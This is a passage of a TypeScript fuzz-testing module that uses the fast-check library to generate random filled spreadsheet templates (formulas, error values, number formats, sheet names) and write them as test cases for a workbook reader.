  { weight: 2, arbitrary: fc.constant(null) },
  {
    weight: 1,
    arbitrary: fc.record({
      formula: fc.constantFrom("1/0", "SUM(C4:C9)", 'A1&"人"', "NA()", 'HYPERLINK("http://x","y")'),
      result: fc.oneof(fc.integer(), cellText),
    }),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom("#DIV/0!", "#N/A", "#REF!", "#VALUE!")
      .map((error) => ({ error }) as const),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      value: fc.oneof(fc.double({ noNaN: true }), cellText),
      numFmt: fc.constantFrom("0.0%", "yyyy-mm-dd", "@", "#,##0.00", "0"),
    }),
  }
);

const exceljsSheet: fc.Arbitrary<TemplateSheetInput> = fc
  .record({
    definition: fc.constantFrom(...BUILTIN_DEFINITIONS),
    year: fc.constantFrom(2012, 2013, 2014),
    frameYear: fc.option(cellInput, { freq: 3, nil: undefined }),
    rowCount: fc.nat(20),
    total: fc.constantFrom<"formula" | "none">("formula", "formula", "none"),
    name: fc.option(fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 20 }), {
      nil: undefined,
    }),
  })
  .chain((p) =>
    fc
      .array(
        fc.array(cellInput, {
          minLength: p.definition.columns.length,
          maxLength: p.definition.columns.length,
        }),
        {
          minLength: p.rowCount,
          maxLength: p.rowCount,
        }
      )
      .map((rows): TemplateSheetInput => ({
        tableId: p.definition.id,
        year: p.year,
        rows,
        total: p.total,
        ...(p.frameYear === undefined ? {} : { frame: { 统计年度: p.frameYear } }),
        // ExcelJS refuses some names (brackets, long, duplicates): the valid ones are enough here
        ...(p.name && !/[\\/?*[\]:']/.test(p.name)
          ? { sheetName: `${p.name.slice(0, 20)} ${p.definition.id}` }
          : {}),
      }))
  );

/**
 * Random filled templates written by the template writer (writer.ts; the kind keeps the name
 * `exceljs` of the library that wrote them before):
 * what a real writer produces (styles, shared strings, formulas with cached results, dates) rather
 * than hand-made XML.
 */
export async function exceljsCases(seed: number, count: number, prefix = "x"): Promise<FuzzCase[]> {
  const drawn = fc.sample(
    fc.record({
      sheets: fc.uniqueArray(exceljsSheet, {
        minLength: 1,
        maxLength: 3,
        selector: (s) => s.sheetName ?? `${s.tableId}${s.year}`,
      }),
      flags,
    }),
    { seed, numRuns: count }
  );
  const out: FuzzCase[] = [];
  for (const [i, d] of drawn.entries()) {
    let bytes: Uint8Array;
    try {
      bytes = await writeTemplateWorkbook(d.sheets);
    } catch (e) {
      // a value the writer itself cannot write is not a case for the reader
      bytes = strToU8(`writer: ${String(e)}`);
    }
    out.push({
      id: `${prefix}${i}`,
      kind: "exceljs",
      description: d.sheets
        .map((s) => `${s.tableId} ${s.year}: ${s.rows?.length ?? 0} rows`)
        .join("; "),
      bytes,
      flags: d.flags,
      withSample: false,
    });
  }
  return out;
}
